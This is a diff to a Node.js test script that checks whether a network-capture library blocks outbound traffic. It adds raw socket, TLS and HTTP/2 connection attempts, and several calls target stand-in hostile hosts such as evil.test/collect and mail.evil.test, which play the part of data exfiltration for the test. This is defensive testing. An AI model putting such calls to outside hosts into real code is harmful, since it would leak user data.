@@ -1,7 +1,10 @@
 // Drives @shadow/capture with node:http itself and with clients that use it, and prints what came of it.
 // Usage: node capture_http.mjs FOLDER, where FOLDER holds node_modules with axios, got and stripe.
 import http, { request as named } from "node:http";
+import http2 from "node:http2";
 import https from "node:https";
+import net from "node:net";
+import tls from "node:tls";
 import { createRequire } from "node:module";
 import { resolve } from "node:path";
 import { pathToFileURL } from "node:url";
@@ -12,7 +15,7 @@ const require = createRequire(pathToFileURL(resolve(process.argv[2], "package.js
 const axios = require("axios");
 const Stripe = require("stripe");
 const { default: got } = await import(pathToFileURL(require.resolve("got")));
-const { PLAIN, SECURE } = process.env; // the target over http, and over https
+const { PLAIN, SECURE, ELSEWHERE, ALLOWED } = process.env; // the target over http, and over https; two ports of this machine
 const before = { request: http.request, get: https.get, named };
 const capture = captureFromEnvironment();
 const run = { run: "run_1", task: "pay", attempt: 2, event: "evt-1" };
@@ -38,6 +41,16 @@ function sent(ask, ...parts) {
   });
 }
 
+/** Whether something connects. */
+function connected(socket) {
+  return new Promise((done, failed) => {
+    socket.once("error", failed).once("connect", () => {
+      socket.destroy();
+      done({ status: "connected" });
+    });
+  });
+}
+
 const undo = capture.install();
 result.sameHttp = http.request === before.request && https.get === before.get && named === before.named;
 await capture.run(run, async () => {
@@ -60,6 +73,15 @@ await capture.run(run, async () => {
   result.waited = await outcome(() => sent((listener) => module.request(`${target.origin}/v1/wait`, listener)));
   result.denied = await outcome(() => sent((listener) => https.request("https://evil.test/collect", listener)));
   result.socket = await outcome(() => sent((listener) => http.request({ socketPath: "/nowhere/evil.sock", path: "/" }, listener)));
+  result.sockets = {
+    port: await outcome(() => connected(net.connect(Number(ELSEWHERE), "127.0.0.1"))),
+    options: await outcome(() => connected(net.createConnection({ port: Number(ELSEWHERE), host: "127.0.0.1" }))),
+    late: await outcome(() => connected(new net.Socket().connect({ port: Number(ELSEWHERE) }))),
+    mail: await outcome(() => connected(net.connect(25, "mail.evil.test"))),
+    tls: await outcome(() => connected(tls.connect(465, "mail.evil.test"))),
+    http2: await outcome(() => connected(http2.connect("https://push.evil.test"))),
+    allowed: await outcome(() => connected(net.connect(Number(ALLOWED), "127.0.0.1"))),
+  };
   result.axiosDenied = await outcome(() => axios.get("http://evil.test/collect"));
 });
 result.outside = await outcome(() => sent((listener) => http.request(`${PLAIN}/v1/wait`, listener)));
